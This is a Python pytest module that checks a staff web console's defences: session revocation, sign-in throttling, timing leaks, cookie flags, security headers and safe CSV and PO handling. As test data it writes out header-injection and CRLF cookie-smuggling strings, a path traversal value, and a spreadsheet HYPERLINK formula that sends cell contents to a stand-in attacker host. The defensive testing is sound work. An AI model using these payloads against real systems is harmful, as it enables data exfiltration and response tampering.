"""Staff accounts and the staff pages under abuse (issue 9): revocable sessions, sign-in limits
that keep colleagues in, no username enumeration by timing, Secure cookies, downloads and
spreadsheets that cannot be turned against staff, PO imports that report what they refuse,
security headers, and bad ids that are a 404, never a 500."""

from __future__ import annotations

import csv
import io
import statistics
from typing import Any

import aiohttp
from babel.messages.pofile import read_po, write_po
from sqlalchemy import select, update
from sqlalchemy.orm import selectinload

from bot.kb.models import Service
from bot.staff.models import Role
from tests.conftest import Stack
from tests.support.html_forms import form_with
from tests.support.staff import add_mediator, add_staff
from tests.support.staff_http import StaffClient

PASSWORD = "a long staff password 2026"
WRONG = "not the password at all"


async def signed_in(stack: Stack, username: str, area: str = "admin") -> StaffClient:
    client = StaffClient(stack.web_url)
    assert await client.sign_in(username, PASSWORD, area) == 303
    return client


# --- 1. sessions end on the server -------------------------------------------------------


async def test_logout_ends_the_session_even_for_a_captured_cookie(stack: Stack) -> None:
    admin = await add_staff(stack.database, Role.ADMINISTRATOR, PASSWORD)
    async with await signed_in(stack, admin.username) as browser:
        captured = browser.cookie()
        token = await browser.csrf("/admin")
        status, _, _ = await browser.post("/admin/logout", {"csrf": token})
        assert status == 303
    async with StaffClient(stack.web_url) as thief:
        thief.use_cookie(captured)
        status, _, headers = await thief.get("/admin")
        assert status == 303 and headers["Location"].endswith("/admin/login")
        status, _, _ = await thief.post(
            "/admin/accounts", {"csrf": token, "username": "mallory", "password": "x" * 20}
        )
        assert status in (303, 403)
        status, _, headers = await thief.get("/admin/accounts")
        assert status == 303 and headers["Location"].endswith("/admin/login")


async def test_password_change_disabling_and_role_change_end_every_session(
    stack: Stack,
) -> None:
    admin = await add_staff(stack.database, Role.ADMINISTRATOR, PASSWORD)
    async with await signed_in(stack, admin.username) as admin_browser:
        for change in ("password", "disable", "role"):
            editor = await add_staff(stack.database, Role.CITY_EDITOR, PASSWORD, cities=["bari"])
            laptop = await signed_in(stack, editor.username)
            phone = await signed_in(stack, editor.username)
            form = {
                "csrf": await admin_browser.csrf("/admin/accounts"),
                "role": Role.CITY_EDITOR.value,
                "cities": "bari",
                "active": "on",
            }
            if change == "password":
                form["password"] = "a brand new password 2026"
            elif change == "disable":
                del form["active"]
            else:
                form["role"] = Role.TRANSLATOR.value
            status, _, _ = await admin_browser.post(f"/admin/accounts/{editor.id}", form)
            assert status == 303, change
            for device in (laptop, phone):
                status, _, headers = await device.get("/admin")
                assert status == 303 and headers["Location"].endswith("/admin/login"), change
                await device.session.close()


async def test_a_revoked_session_cannot_open_the_console_socket(stack: Stack) -> None:
    mediator = await add_mediator(stack.database, ["sq"], password=PASSWORD)
    async with await signed_in(stack, mediator.username, "console") as browser:
        captured = browser.cookie()
        token = await browser.csrf("/console")
        await browser.post("/console/logout", {"csrf": token})
    async with StaffClient(stack.web_url) as thief:
        thief.use_cookie(captured)
        origin = {"Origin": stack.web_url}
        try:
            socket = await thief.session.ws_connect(stack.web_url + "/console/live", headers=origin)
        except aiohttp.WSServerHandshakeError as refused:
            assert refused.status in (303, 401, 403)
        else:
            await socket.close()
            raise AssertionError("a logged-out cookie opened the console's live socket")


# --- 2. sign-in limits that keep colleagues in -------------------------------------------


async def test_failures_from_one_address_do_not_lock_a_colleague_out(
    stack: Stack, app_factory: Any
) -> None:
    url = await app_factory(trusted_proxies=["127.0.0.1/32"])
    colleague = await add_staff(stack.database, Role.CITY_EDITOR, PASSWORD, cities=["torino"])
    statuses, waits = [], []
    async with StaffClient(url, forwarded_for="203.0.113.66") as attacker:
        for _ in range(12):
            statuses.append(await attacker.sign_in(colleague.username, WRONG))
            if statuses[-1] == 429:
                waits.append(int(attacker.last_headers["Retry-After"]))
    assert statuses[-1] == 429, statuses  # the attacker is slowed down
    assert waits == sorted(waits) and waits[-1] > waits[0], waits  # by growing delays
    async with StaffClient(url, forwarded_for="198.51.100.7") as own_office:
        assert await own_office.sign_in(colleague.username, PASSWORD) == 303
    # another colleague behind the attacker's address is not locked out either
    other = await add_staff(stack.database, Role.TRANSLATOR, PASSWORD, languages=["bn"])
    async with StaffClient(url, forwarded_for="203.0.113.66") as same_address:
        assert await same_address.sign_in(other.username, PASSWORD) == 303


async def test_forwarded_for_is_ignored_from_an_untrusted_peer(
    stack: Stack, app_factory: Any
) -> None:
    url = await app_factory(trusted_proxies=[])
    target = await add_staff(stack.database, Role.TRANSLATOR, PASSWORD, languages=["ro"])
    statuses = []
    for number in range(12):
        # a new made-up address each time: it must not buy new attempts
        async with StaffClient(url, forwarded_for=f"192.0.2.{number + 1}") as attacker:
            statuses.append(await attacker.sign_in(target.username, WRONG))
    assert statuses[-1] == 429, statuses


# --- 3. no username enumeration by timing ----------------------------------------------


async def test_unknown_usernames_take_as_long_as_known_ones(stack: Stack, app_factory: Any) -> None:
    url = await app_factory(trusted_proxies=["127.0.0.1/32"])
    known = await add_staff(stack.database, Role.TRANSLATOR, PASSWORD, languages=["fa"])
    timings: dict[str, list[float]] = {"known": [], "unknown": []}
    for attempt in range(4):
        for kind, username in (("known", known.username), ("unknown", f"nobody-{attempt}")):
            async with StaffClient(url, forwarded_for=f"198.51.100.{attempt + 20}") as client:
                assert await client.sign_in(username, WRONG) == 401
                timings[kind].append(client.last_sign_in_seconds)
    ratio = statistics.median(timings["unknown"]) / statistics.median(timings["known"])
    assert 0.5 < ratio < 2.0, timings


# --- 4. Secure cookies behind HTTPS ------------------------------------------------------


async def staff_cookie_of(client: StaffClient) -> str:
    """The Set-Cookie of the sign-in page (it opens the session that holds the CSRF token)."""
    async with client.session.get(client.base_url + "/admin/login") as response:
        cookies = [c for c in response.headers.getall("Set-Cookie", []) if "lgnet_staff=" in c]
    assert cookies, "the sign-in page set no session cookie"
    return cookies[0]


async def test_the_cookie_is_secure_when_the_public_address_is_https(app_factory: Any) -> None:
    url = await app_factory(public_url="https://assistant.example.org")
    async with StaffClient(url) as client:
        assert "Secure" in await staff_cookie_of(client)
    plain_url = await app_factory()  # no public HTTPS address, no proxy: not Secure
    async with StaffClient(plain_url) as client:
        assert "Secure" not in await staff_cookie_of(client)


async def test_the_cookie_is_secure_behind_a_trusted_tls_proxy(app_factory: Any) -> None:
    url = await app_factory(trusted_proxies=["127.0.0.1/32"])
    async with StaffClient(url, forwarded_for="198.51.100.30") as client:
        client.session.headers["X-Forwarded-Proto"] = "https"
        assert "Secure" in await staff_cookie_of(client)


# --- 8. nothing a user sends reaches a header ------------------------------------------


async def test_download_names_are_not_injectable(stack: Stack) -> None:
    admin = await add_staff(stack.database, Role.ADMINISTRATOR, PASSWORD)
    async with await signed_in(stack, admin.username) as browser:
        for evil in ('x"; filename="evil.html', "x\r\nSet-Cookie: stolen=1", "../../etc"):
            status, _, headers = await browser.get("/admin/unanswered.yml", params={"lang": evil})
            assert status == 400, evil
            assert "evil" not in headers.get("Content-Disposition", "")
            assert "stolen" not in " ".join(headers.getall("Set-Cookie", []))
        status, _, headers = await browser.get("/admin/unanswered.yml", params={"lang": "ar"})
        assert status == 200
        disposition = headers["Content-Disposition"]
        assert disposition.count("filename") == 1 and "unanswered-ar-" in disposition


# --- 9. CSV cells that a spreadsheet would run ------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Click me")'


async def test_csv_formulas_are_neutralised_and_round_trip(stack: Stack) -> None:
    editor = await add_staff(stack.database, Role.CITY_EDITOR, PASSWORD, cities=["caserta"])
    async with stack.database.session() as session:
        service = await session.scalar(
            select(Service).join(Service.city).where(Service.city.has(slug="caserta"))
        )
        assert service is not None
        service_id, original_phone = service.id, service.phone
        await session.execute(
            update(Service)
            .where(Service.id == service_id)
            .values(name=FORMULA, phone="+39 0823 000000")
        )
        await session.commit()
    async with await signed_in(stack, editor.username) as browser:
        status, body, _ = await browser.get("/admin/services.csv")
        assert status == 200
        rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
        row = next(r for r in rows if r["id"] == str(service_id))
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", value
        assert row["name"] == "'" + FORMULA
        # the exported file imports back without changing anything
        form = aiohttp.FormData()
        form.add_field("csrf", await browser.csrf("/admin/exchange"))
        form.add_field("file", body.encode("utf-8"), filename="services.csv")
        status, page, _ = await browser.post("/admin/services/import", form)
        assert status == 200, page
    async with stack.database.session() as session:
        restored = await session.get(Service, service_id)
        assert restored is not None
        assert restored.name == FORMULA and restored.phone == "+39 0823 000000"
        restored.phone = original_phone
        await session.commit()


# --- 10. PO imports: refused rows reported, big files applied, long previews paged -------


async def po_of(browser: StaffClient, language: str) -> Any:
    status, body, _ = await browser.get(f"/admin/po/{language}.po")
    assert status == 200
    return read_po(io.BytesIO(body.encode("utf-8")))


def po_bytes(catalog: Any, padding: int = 0) -> bytes:
    out = io.BytesIO()
    write_po(out, catalog, width=0)
    data = out.getvalue()
    if padding:  # translator comments, as a big real file has
        data += b"\n" + (b"# " + b"x" * 98 + b"\n") * (padding // 101)
    return data


async def upload_po(browser: StaffClient, language: str, data: bytes) -> str:
    form = aiohttp.FormData()
    form.add_field("csrf", await browser.csrf("/admin/exchange"))
    form.add_field("file", data, filename=f"{language}.po")
    async with browser.session.post(
        f"{browser.base_url}/admin/po/{language}", data=form
    ) as response:  # follows the redirect to the preview, as a browser does
        assert response.status == 200, response.status
        return await response.text()


async def apply_previewed(browser: StaffClient, preview: str) -> tuple[int, str]:
    form = form_with(preview, "apply-po")
    async with browser.session.post(browser.base_url + form.action, data=form.fields) as response:
        return response.status, await response.text()


async def test_po_import_reports_every_refused_row(stack: Stack) -> None:
    admin = await add_staff(stack.database, Role.ADMINISTRATOR, PASSWORD)
    async with await signed_in(stack, admin.username) as browser:
        catalog = await po_of(browser, "sq")
        entries = [m for m in catalog if m.context and m.context.startswith("service:")]
        label = next(m for m in entries if m.context.endswith(":label"))
        description = next(m for m in entries if m.context.endswith(":description"))
        label.string = "L" * 300  # longer than a label may be
        description.string = "Përshkrim i ri nga importi PO"
        for message in entries:
            if message not in (label, description):
                catalog.delete(message.id, context=message.context)
        preview = await upload_po(browser, "sq", po_bytes(catalog))
        assert "1 change to apply" in preview
        assert label.context in preview and "256" in preview  # refused, and why
        status, _ = await apply_previewed(browser, preview)
        assert status == 200
    service_id = int(description.context.split(":")[1])
    async with stack.database.session() as session:
        service = await session.get(Service, service_id, options=[selectinload(Service.texts)])
        assert service is not None
        text = service.text_for("sq")
        assert text is not None and text.description == "Përshkrim i ri nga importi PO"
        assert text.label != "L" * 300


async def test_a_large_po_file_is_applied_and_its_preview_is_paged(stack: Stack) -> None:
    admin = await add_staff(stack.database, Role.ADMINISTRATOR, PASSWORD)
    async with await signed_in(stack, admin.username) as browser:
        catalog = await po_of(browser, "tl")
        changed = 0
        for message in catalog:
            if message.context and message.context.endswith(":label"):
                message.string = f"Bagong label {changed}"
                changed += 1
        assert changed > 60
        data = po_bytes(catalog, padding=4_900_000 - len(po_bytes(catalog)))
        assert 4_800_000 < len(data) < 5_000_000
        preview = await upload_po(browser, "tl", data)
        assert f"{changed} changes to apply" in preview
        assert preview.count('class="new"') < changed  # one page, not every row
        assert 'rel="next"' in preview
        status, _ = await apply_previewed(browser, preview)
        assert status == 200
    async with stack.database.session() as session:
        services = await session.scalars(select(Service).options(selectinload(Service.texts)))
        labels = {t.label for s in services for t in s.texts if t.language == "tl"}
    assert {f"Bagong label {n}" for n in range(changed)} <= labels


# --- 14. security headers on every page --------------------------------------------------


async def test_every_page_has_security_headers(stack: Stack) -> None:
    async with aiohttp.ClientSession() as session:
        for method, path in (
            ("GET", "/"),
            ("GET", "/static/chat.js"),
            ("GET", "/admin/login"),
            ("GET", "/console/login"),
            ("GET", "/healthz"),
            ("POST", "/api/chat"),
        ):
            kwargs = {"json": {"text": "ciao"}} if method == "POST" else {}
            async with session.request(
                method, stack.web_url + path, allow_redirects=False, **kwargs
            ) as response:
                headers = response.headers
                csp = headers.get("Content-Security-Policy", "")
                assert "frame-ancestors 'none'" in csp, path
                assert "unsafe-inline" not in csp, path
                assert headers.get("X-Frame-Options") == "DENY", path
                assert headers.get("X-Content-Type-Options") == "nosniff", path
                assert headers.get("Referrer-Policy") == "no-referrer", path


# --- 15. ids out of range: 404, not 500 -------------------------------------------------

HUGE = "99999999999999999999"


async def test_ids_beyond_any_integer_are_not_found(stack: Stack) -> None:
    admin = await add_staff(
        stack.database, Role.ADMINISTRATOR, PASSWORD
    )  # an administrator also uses the console
    async with await signed_in(stack, admin.username) as browser:
        token = await browser.csrf("/admin")
        for method, path in (
            ("GET", f"/console/cases/{HUGE}"),
            ("GET", "/console/cases/9223372036854775808"),
            ("GET", f"/admin/services/{HUGE}"),
            ("GET", f"/admin/texts/{HUGE}/ar"),
            ("GET", f"/admin/audit/{HUGE}"),
            ("POST", f"/admin/audit/{HUGE}/undo"),
            ("POST", f"/admin/accounts/{HUGE}"),
        ):
            data = {"csrf": token} if method == "POST" else None
            if method == "POST":
                status, _, _ = await browser.post(path, data)
            else:
                status, _, _ = await browser.get(path)
            assert status == 404, (method, path, status)
